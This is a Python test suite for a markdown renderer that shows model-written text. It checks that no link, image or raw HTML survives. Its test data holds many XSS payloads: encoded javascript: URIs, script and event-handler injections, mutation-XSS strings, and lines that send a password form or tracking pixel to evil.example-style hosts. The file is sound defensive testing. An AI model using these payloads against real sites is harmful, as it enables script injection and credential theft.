"""What a hostile model writes: nothing of it runs, loads an image, or leads anywhere but the web.

It is judged by the structure of what comes out, never by searching it for words: hostile text may
be shown, as text.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.concepts.page import Html, Page

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)", "java\u200bscript:alert(1)", "\ufeffjavascript:alert(1)",
    "ｊavascript:alert(1)", "javascript：alert(1)", "javaſcript:alert(1)",
    "javascript://a.example/%0aalert(1)", "javascript%3Aalert(1)", "%6aavascript:alert(1)",
    r"java\script:alert(1)", r"javascript\:alert(1)", "vbscript:msgbox(1)", "VBSCRIPT&colon;x",
    "livescript:x", "mocha:x", "jar:https://a.example!/", "data:text/html,<b>", "data:,x",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=",
    "data:image/png;base64,AAAA", "DATA&colon;text/html,x", "blob:https://a.example/1",
    "filesystem:https://a.example/1", "view-source:https://a.example", "about:blank",
    "file:///etc/passwd", "ftp://a.example/x", "ws://a.example", "intent://a.example",
    "tel:+123", "sms:+123", "mailto:a@b.example", "MAILTO:a@b.example", "mailto&colon;a@b.example",
    "//evil.example", "///evil.example", "&sol;/evil.example", r"/\evil.example",
    r"\\evil.example", r"https:\\evil.example", "https:/evil.example", "https:evil.example",
    "https&colon;evil.example", "https://", "http:///evil.example", "ht&#9;tps://evil.example",
    "http://a:99999", "http://a:x/", "http://[::1", "https://a%zz/", "https://1.2.3.4.5/", "http://%",
    "/admin/", "admin/", "../admin/", "./", "?next=x", "/accounts/logout/", ".", "%2fadmin",
)  # fmt: skip
LINKS = (
    "[x]({})", "[x](<{}>)", '[x]({} "title")', "[x]( {} )", "<{}>", "[x][1]\n\n[1]: {}",
    "[x][]\n\n[x]: {}", "[x]\n\n[x]: <{}> 'title'", "[![x](a.png)]({})", "[![x][1]]({})\n\n[1]: {}",
    "[**x** `y`]({})", "[a [b]({}) c]({})", "[<https://a.example>]({})", "bare {} text", "({})",
    "# [x]({})", "> [x]({})", "- [x]({})", "|[x]({})|\n|-|\n|{}|", "*[x]({})*", "`a` [x]({}) `b`",
)  # fmt: skip
IMAGES = (
    "![x]({})", "![x](<{}>)", '![x]({} "title")', "![x][1]\n\n[1]: {}", "![x]\n\n[x]: {}",
    "![![x]({})]({})", "[![x]({})](https://a.example)", "![[x]({})]({})", "# ![x]({})",
    "|![x]({})|\n|-|", "<img src='{}'>", '<img\nsrcset="{}">', "<picture><source srcset={}>",
    "<image href={}>", '<input type=image src="{}">', "<video poster={}>", "<body background={}>",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js>", "<scr<script>ipt>alert(1)",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)", "<noscript><p title='</noscript><b>'>",
    "<b onclick=alert(1)>x</b>", '<p onmouseover="alert(1)">', "<details open ontoggle=alert(1)>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><use href='//evil.example#x'/></svg>",
    "<svg><a xlink:href='javascript:x()'><text>x</text></a></svg>", "<svg><style><img src=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:x()'>x</math>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example';</style>", "<p style='background:url(//evil.example)'>",
    "<link rel=stylesheet href=//evil.example>", "<link rel=prefetch href=//evil.example>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta charset=utf-7>", "<iframe src='/admin/'></iframe>", "<iframe srcdoc='<script>x()'>",
    "<frameset><frame src='//evil.example'>", "<object data='//evil.example'>", "<embed src=x.swf>",
    "<applet code=X>", "<form action='//evil.example'><input name=password><button>go</form>",
    "<button formaction='javascript:x()'>", "<textarea autofocus onfocus=x()>", "<isindex>",
    "<input autofocus onfocus=alert(1)>", "<select onchange=x()>", "<keygen autofocus onfocus=x()>",
    "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=x()>",
    "<template><script>alert(1)</script></template>", "<xss contenteditable onfocus=x() autofocus>",
    "<a href='javascript:alert(1)'>x</a>", '<a href="//evil.example">x</a>', "<a ping=//evil>x</a>",
    "<!-- comment -->", "<!--><script>alert(1)</script>", "<!-->",
    "<!--[if IE]><script>x()<![endif]-->",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>", "<?xml-stylesheet href='//evil.example'?>", "<?php x() ?>",
    "<![CDATA[<script>alert(1)</script>]]>", "</p></article></main><script>x()</script>",
    "<plaintext>", "<xmp><script>x()</script></xmp>", "<title><script>x()</script></title>", "<",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x&#x3e;",
    "\\<script>alert(1)\\</script>", "<\x00script>alert(1)", "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<K onclick=x()>",
    "`<script>`<script>alert(1)</script>", "``` <img src=x> ```<img src=x>",
    "```html\n<script>x()</script>\n```\n<script>x()</script>",
    "````\n```\n<img src=x onerror=x()>\n```\n````\n<img src=x>", "~~~\n```\n~~~\n<svg onload=x()>",
    '```" onclick=x() a="\n<b>\n```', "```<script>\n</code></pre><script>x()</script>\n```",
    "``` class=x onload=x()\nx\n```", "> ```\n> <script>\n<script>x()</script>", "    <script>x()",
    "- ```\n  <iframe>\n<iframe src=x>", "```js\n</span></code></pre><script>x()\n```",
    "[x](https://a.example 'a\" onclick=\"x()')", '[x](https://a.example"onclick="x())',
    '[x](<https://a.example/" onmouseover="x()>)', 'https://a.example/"onmouseover=x()',
    "<https://a.example/'onmouseover='x()>", '[x](#" onclick="x())', '# x" onclick="x() {#id}',
    "# <img src=x onerror=x()>", "# </h2><script>x()</script>", "[x]: javascript:x()\n\n[x] [X][]",
    "|<b onclick=x()>|\n|:-:|\n|</td><script>x()|", "1. </ol><script>x()</script>",
    "[<script>x()</script>](https://a.example)", "![<script>x()</script>](x.png)",
    '!["onerror="x()](https://a.example/x.png)', "[^1]\n\n[^1]: <script>x()</script>",
    ":::danger\n<script>x()</script>\n:::", "$$<img src=x onerror=x()>$$", "{{ 7 * 7 }}{% debug %}",
    "---\nlayout: <script>\n---\n<script>x()</script>", "[x](https://a.example){onclick=x()}",
)  # fmt: skip
# Whatever stands before it, a text must not break out of.
BEFORE = ("", "text ", "# ", "> ", "- ", "1. ", "**", "`", "| a |\n|---|\n| ", "text\n", "<b>", "[")

# Scraps that hypothesis puts together.
SCRAPS = (
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:x()'>", "<svg/",
    "![", "[a]", "](", ")", "javascript:", "JaVaScRiPt&colon;", "java\tscript:", "data:text/html,",
    "<javascript:x>", "vbscript:", "//evil.example", "\n\n", "```", "```html\n", "    ", "# ",
    "> ", ' onclick="x()"', ' " onx=y ', "&lt;script&gt;", "&#60;script&#62;", "|-|\n", "|a|\n",
    "~~", "<!--", "-->", "<![CDATA[", "\x00", "`", "*", "\\", "https://a.example",
    "https://", ":99999", "www.python.org", "a@b.c", "mailto:", "<a@b.c>", "[1]: ", "/admin/", "#",
)  # fmt: skip
deterministic = settings(derandomize=True, deadline=None, max_examples=200)
markdowns = st.text() | st.lists(st.sampled_from(SCRAPS) | st.text(max_size=3)).map("".join)


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_form_of_a_link_leads_anywhere_but_the_web(address: str) -> None:
    pages = {form: Page(form.replace("{}", address)) for form in LINKS}
    assert {form: page.offences() for form, page in pages.items() if page.offences()} == {}


@pytest.mark.parametrize("address", [*ADDRESSES, "https://spy.example/p.gif", "http://a.example"])
def test_no_form_of_an_image_is_loaded(address: str) -> None:
    pages = {form: Page(form.replace("{}", address)) for form in IMAGES}
    assert {form: page.offences() for form, page in pages.items() if page.offences()} == {}


@pytest.mark.parametrize("markup", MARKUP)
def test_no_markup_is_let_through_wherever_it_stands(markup: str) -> None:
    pages = {before: Page(before + markup) for before in BEFORE}
    assert {before: page.offences() for before, page in pages.items() if page.offences()} == {}


@pytest.mark.parametrize(
    "html",
    [
        "<script>x()</script>",
        "<img src=x>",
        "<p onclick=x()>",
        "<p style='x'>",
        "<a href='javascript:x()'>",
        "<a href='mailto:a@b.c'>",
        "<a href='//evil.example'>",
        "<a href='https:///'>",
        "<a href='/admin/'>",
        "<a href=''>",
        "<a href>",
        "<a>",
        "<a href='#main'>",
        "<!-- x -->",
        "<!DOCTYPE html>",
        "<?php x() ?>",
    ],
)
def test_the_judge_of_these_tests_is_not_blind(html: str) -> None:
    assert Html(html).offences()


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "text <b onclick=alert(1)>bold</b>",
        "<!-- a comment -->",
        "<iframe src='/evil'></iframe>",
    ],
)
def test_raw_html_is_shown_as_text(markdown: str) -> None:
    page = Page(markdown)
    assert (page.tags(), page.text.strip()) == (["p"], markdown)


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("[write to us](mailto:a@b.example)", "write to us"),
        ("[write to us][1]\n\n[1]: mailto:a@b.example", "write to us"),
        ("<a@b.example>", "a@b.example"),
        ("<mailto:a@b.example>", "mailto:a@b.example"),
        ("Ask a@b.example.", "Ask a@b.example."),
        ("E-Mail:Ada.Name@B.Example", "E-Mail:Ada.Name@B.Example"),
        ("ada.museum@python.org", "ada.museum@python.org"),
        ("mailto:a@b.example?subject=x", "mailto:a@b.example?subject=x"),
        ("ftp://ftp.gnu.org/a%20b", "ftp://ftp.gnu.org/a%20b"),
        ("//evil.com/x", "//evil.com/x"),
        ("[there](http://a.example:99999)", "there"),
        ("[there](<https://[::1>)", "there"),
        ("<https://a.example:port/>", "https://a.example:port/"),
        ("https://256.256.256.256/", "https://256.256.256.256/"),
        ("[there](/admin/)", "there"),
        ("[there](//evil.example)", "there"),
        ("[there](other.html)", "there"),
        ("[![there](https://a.example/x.png)](mailto:a@b.example)", "there"),
        ("![<b>a cat</b>](/cat.png)", "<b>a cat</b>"),
    ],
)
def test_of_what_may_not_be_a_link_or_an_image_the_text_is_kept(markdown: str, text: str) -> None:
    page = Page(markdown)
    assert (page.tags(), page.text.strip()) == (["p"], text)


def test_a_good_link_inside_a_bad_one_is_kept() -> None:
    page = Page("[from <https://a.example> to](mailto:a@b.example) nowhere, see [more](#more)")
    assert page.values("href") == ["https://a.example", "#t-more"]
    assert page.text.strip() == "from https://a.example to nowhere, see more"


def test_a_bad_link_inside_a_good_one_does_not_stretch_it() -> None:
    page = Page("[from <mailto:a@b.example> to](https://a.example) somewhere")
    assert page.tags() == ["p", "a"]
    assert page.links == ["from mailto:a@b.example to"]


@pytest.mark.slow
@deterministic
@given(markdown=markdowns)
def test_no_text_yields_anything_that_is_not_listed(markdown: str) -> None:
    assert Page(markdown).offences() == []


@deterministic
@given(markdown=markdowns)
def test_no_text_yields_a_class_or_an_id_of_our_own_pages(markdown: str) -> None:
    page = Page(markdown)
    assert all(re.fullmatch(r"code|[a-z][a-z0-9]{0,2}", name) for name in page.values("class"))
    assert all(name.startswith("t-") for name in page.values("id"))
